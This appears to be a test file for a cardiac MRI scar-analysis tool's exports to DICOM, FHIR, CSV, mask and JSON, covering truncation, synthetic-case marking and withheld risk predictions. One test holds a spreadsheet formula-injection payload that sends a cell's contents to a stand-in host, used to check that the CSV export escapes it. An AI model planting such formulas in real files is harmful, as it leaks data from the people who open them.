/**
 * What every file that leaves the page says about a case: by which method the scar is, what does not apply, what is not
 * known.
 */
import { riskComments } from '../../../../src/app/messages/riskComments.ts';
import { gunzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { nodeLoadWasm } from '../../../../src/studies/files/inputFiles.ts';
import { parseHeader, personName, value } from '../../../../src/core/dicom/elements.ts';
import { openPart10 } from '../../../../src/core/dicom/part10.ts';
import type { Analysis } from '../../../../src/pipeline/analysing/analysis.ts';
import {
  toSegmentationObject,
  toStructuredReport,
  type ExportedCase,
} from '../../../../src/pipeline/saving/exportCase.ts';
import { readStudy } from '../../../../src/pipeline/reading/readStudy.ts';
import type { StackAnalysis } from '../../../../src/pipeline/analysing/analyse.ts';
import { exportedSurvival } from '../../../../src/pipeline/saving/exportedSurvival.ts';
import { toFile } from '../../../../src/pipeline/saving/toFile.ts';
import { EMPTY_STUDY, memoryFile } from '../../../../src/pipeline/reading/study.ts';
import { toFhirBundle } from '../../../../src/pipeline/saving/toFhir.ts';
import { NO_NOTES } from '../../../../src/pipeline/saving/readersNotes.ts';
import { toCsv } from '../../../../src/pipeline/saving/toCsv.ts';
import { toMask } from '../../../../src/pipeline/saving/toMask.ts';
import { syntheticStack } from '../../../syntheticDicom.ts';
import {
  COLUMNS,
  ROWS,
  SLICES,
  IDENTITY,
  open,
  chosenOf,
  rated,
  exported,
  text,
  NOTHING_ELSE,
  type Bundle,
} from './exportedCase.ts';

describe('what a file cannot hold', () => {
  it('is cut to what the standard allows, in SEG and SR, and named', async () => {
    const broken = syntheticStack(SLICES, 10, (k) => ({
      columns: COLUMNS,
      rows: ROWS,
      pixels: Uint16Array.from({ length: COLUMNS * ROWS }, (_, i) => 50 * k + i),
      elements: {
        ...IDENTITY,
        // As another VR: dcmjs would not write so long a name.
        '00100010': ['LT', `Muster^${'x'.repeat(500)}`],
        '00100030': ['DA', '7/8/1956'],
        '00100040': ['CS', 'weiblich?'],
        '00080018': ['UI', `1.2.3.777.3.${k + 1}`],
      },
    }));
    const study = await readStudy(
      broken.map((bytes, i) => memoryFile(`IM${i}`, bytes)),
      { loadWasm: nodeLoadWasm },
    );
    const stack = await chosenOf(study);
    const origin = await study.readOrigin(stack.series.id, new Date(2026, 0, 2));
    expect(origin.changed).toEqual(['00100010', '00100030', '00100040']);
    for (const write of [toSegmentationObject, toStructuredReport]) {
      const { elements, characterSets } = parseHeader(openPart10(write(exported(stack, origin))));
      expect(personName(elements, '00100010', characterSets)).toBe(`Muster^${'x'.repeat(57)}`);
      expect([value(elements, '00100030'), value(elements, '00100040')]).toEqual(['', '']);
    }
  });

  it('by words of a case file that are too long, stops nothing', async () => {
    const one = exported(await chosenOf(await open()), null);
    const cards = one.cards.map((card) => ({ ...card, version: '9'.repeat(4000) }));
    expect(toSegmentationObject({ ...one, cards }).length).toBeGreaterThan(0);
    expect(toStructuredReport({ ...one, cards }).length).toBeGreaterThan(0);
  });

  it('is no formula in a spreadsheet', async () => {
    const one = exported(await chosenOf(await open()), null);
    const english = '=HYPERLINK("http://example.org/?"&A1)';
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    for (const start of ['=', '+', '-', '@', '\t']) {
      const warnings = [{ code: 'sentence', english: english.replace('=', start) }] as const;
      const table = toCsv(
        {
          scar: one.scar,
          segmentation,
          survival: one.survival,
          warnings,
          isSynthetic: false,
          refused: [],
          corrections: null,
          intervals: null,
        },
        (reason) => ('english' in reason ? reason.english : ''),
      );
      expect(table).toContain(`images,warning,"'${start}HYPERLINK(""http`);
    }
  });
});

describe('whose the scar is', () => {
  const ends = [1, 2] as const;
  const intervals = { bloodPoolMl: ends, myocardiumMl: ends, scarMl: ends, burdenPercent: ends, noReflowMl: ends };
  const byHand = { edits: 1, tools: ['brush'] } as unknown as Analysis['corrections'];

  it('stands in the table, and the network’s intervals only beside its own measures', async () => {
    const { scar, survival } = exported(await chosenOf(await open()), null);
    const segmentation = {
      from: 'network',
      plausibility: [],
      casePlausibility: null,
    } as unknown as Analysis['segmentation'];
    const rowsOf = (corrections: Analysis['corrections']): string[] =>
      toCsv({ ...NOTHING_ELSE, scar, segmentation, survival, corrections, intervals }, () => '').split('\r\n');
    expect(rowsOf(null)).toContain(`whole,scar volume,${scar.scarMl},mL,1,2,`);
    const left = toCsv(
      {
        ...NOTHING_ELSE,
        scar: { ...scar, excluded: [1, 3] },
        segmentation,
        survival,
        intervals,
      },
      () => '',
    );
    expect(left).toContain('whole,slices left out by the reader,2 4,');
    expect(left).toContain(`whole,scar volume,${scar.scarMl},mL,,,`);
    expect(rowsOf(byHand)).toContain(`whole,scar volume,${scar.scarMl},mL,,,`);
    const drawnBy = (corrections: Analysis['corrections']): string | undefined =>
      rowsOf(corrections).find((row) => row.startsWith('whole,drawn by'));
    expect(drawnBy(byHand)).toContain('corrected by hand');
    expect(drawnBy({ edits: 1, tools: ['mask'] } as unknown as Analysis['corrections'])).toContain('from a mask');
  });

  it('stands in the DICOM report with what the reader says', async () => {
    const one = exported(await chosenOf(await open()), null);
    const said = { checkedSlices: [0, 2], impression: 'Scar of the anterior wall', signedBy: 'A. B.' };
    const notes = { ...NO_NOTES, ...said, excludedSlices: [1] };
    const report = text(toStructuredReport({ ...one, whose: 'networkByHand', notes }));
    for (const said of [
      'corrected by hand',
      'in slice 1, 3',
      'left slice 2 out of',
      'Impression: Scar of the anterior',
      'Signed by: A. B.',
    ]) {
      expect(report).toContain(said);
    }
  });
});

describe('a synthetic heart', () => {
  it('is told to be none of a patient by every file that leaves the page, and no patient’s images are', async () => {
    const stack = await chosenOf(await open());
    const real = exported(stack, null);
    const made = exported({ ...stack, source: { kind: 'synthetic' } }, null);
    const imageSha256 = 'ab'.repeat(32);
    const fhir = (one: ExportedCase): string => text(toFhirBundle({ ...one, imageSha256 }));
    const mask = ({ labels: found, source }: ExportedCase): string => text(gunzipSync(toMask(found, source)));
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const csv = ({ scar, survival, source }: ExportedCase): string => {
      const isSynthetic = source.kind === 'synthetic';
      const found = { scar, segmentation, survival, warnings: [], corrections: null, intervals: null, isSynthetic };
      return toCsv({ ...found, refused: [] }, () => '');
    };
    const json = ({ scar, survival, source }: ExportedCase): string => {
      const found = { scar, segmentation, survival, warnings: [], refused: [], corrections: null, intervals: null };
      const why = source.kind === 'synthetic' ? ({ code: 'simulated' } as const) : stack.series.why;
      const study = { ...EMPTY_STUDY, series: [{ ...stack.series, why }] };
      return JSON.stringify(toFile(study, found as unknown as StackAnalysis, survival, [], () => ''));
    };
    const seg = (one: ExportedCase): string => text(toSegmentationObject(one));
    const sr = (one: ExportedCase): string => text(toStructuredReport(one));
    for (const [write, mark] of [
      [seg, 'Synthetic^Heart'],
      [sr, 'Synthetic^Heart'],
      [fhir, 'HTEST'],
      [mask, 'not a patient'],
      [csv, 'case,synthetic,made by code: not a patient'],
      [json, '"synthetic":true'],
    ] as const) {
      expect(write(made)).toContain(mark);
      expect(write(real)).not.toContain(mark);
    }
    const { entry } = JSON.parse(fhir(made)) as Bundle;
    expect(entry.filter(({ resource }) => !JSON.stringify(resource).includes('HTEST'))).toEqual([]);
  });
});

describe('a prediction that does not apply', () => {
  it('says why before its numbers, in the report and in the table', async () => {
    const one = exported(await chosenOf(await open()), null);
    const applies = { yes: false, why: [{ code: 'defibrillator' }] } as const;
    const survival = { ...one.survival, applies };
    const comments = riskComments(survival);
    const report = text(toStructuredReport({ ...one, survival, comments }));
    expect(report.indexOf('Does not apply: A defibrillator')).toBeGreaterThan(0);
    expect(report.indexOf('Does not apply: A defibrillator')).toBeLessThan(report.indexOf('RISK1Y'));
    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const [, verdict, reason, ...rest] = toCsv(
      {
        scar: one.scar,
        segmentation,
        survival,
        warnings: [{ code: 'lengthsByHand' }],
        isSynthetic: false,
        refused: [{ why: { code: 'sameImage', path: '' }, files: 3 }],
        corrections: null,
        intervals: null,
      },
      ({ code }) => `"${code}", alas`,
    ).split('\r\n');
    expect(verdict).toBe('prediction,applies,no,,,,');
    expect(reason).toBe('prediction,does not apply,"""defibrillator"", alas",,,,');
    expect(rest.some((row) => row.startsWith('fused,net risk at 5 years,0.0456,1,0.02,0.09'))).toBe(true);
    const followed = one.survival.fused?.followUpYears ?? NaN;
    expect(rest).toContain(`fused,extrapolated beyond,${followed},years,,,simulated`);
    // What was lost is in the table as in the JSON.
    expect(rest).toContain('images,warning,"""lengthsByHand"", alas",,,,');
    expect(rest).toContain('files,"not used: ""sameImage"", alas",3,1,,,');
    expect(report).toContain(`Extrapolated beyond ${followed.toFixed(1)} years`);
  });
});

describe('a patient of whom nothing is known', () => {
  it('gets no risk that rests on answers, in any file, and each says why', async () => {
    const one = exported(await chosenOf(await open()), null);
    const { covariates, atRate, explanation, percentile } = one.survival;
    if (!covariates || !atRate || !explanation || percentile === null) throw new Error('The case has its predictions.');
    const whole = {
      ...one.survival,
      covariates,
      percentile,
      hospital: null,
      explanation,
      atRate: { afterInfarct: rated, heartFailure: rated },
    };
    const known = exportedSurvival(whole, { covariates: { age: 60 }, facts: {} });
    expect(known).toMatchObject({ covariates, withheld: null });
    const survival = exportedSurvival(whole, { covariates: {}, facts: {} });
    const nameless = { ...one, survival, comments: riskComments(survival) };

    const report = text(toStructuredReport(nameless));
    expect(report).not.toContain('RISK4Y');
    expect(report).toContain('Nothing is known about the patient');

    const { entry } = JSON.parse(
      new TextDecoder().decode(toFhirBundle({ ...nameless, imageSha256: 'ab'.repeat(32) })),
    ) as Bundle;
    expect(entry.some(({ resource }) => resource.resourceType === 'RiskAssessment')).toBe(false);
    const study = entry.find(({ resource }) => resource.resourceType === 'ImagingStudy');
    expect(study?.resource).toHaveProperty('note.0.text', expect.stringContaining('Nothing is known'));

    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
    const result = {
      scar: one.scar,
      segmentation,
      warnings: [],
      isSynthetic: false,
      refused: [],
      corrections: null,
      intervals: null,
    };
    const table = toCsv({ ...result, survival }, ({ code }) => code).split('\r\n');
    expect(table).toContain('prediction,withheld,noAnswers,,,,');
    expect(table.some((row) => /net risk|crude risk/.test(row))).toBe(false);

    const numbers = toFile(EMPTY_STUDY, result as unknown as StackAnalysis, survival, [], ({ code }) => code);
    expect(numbers.survival).toMatchObject({ covariates: null, fused: null, atRate: null, withheld: 'noAnswers' });
  });
});
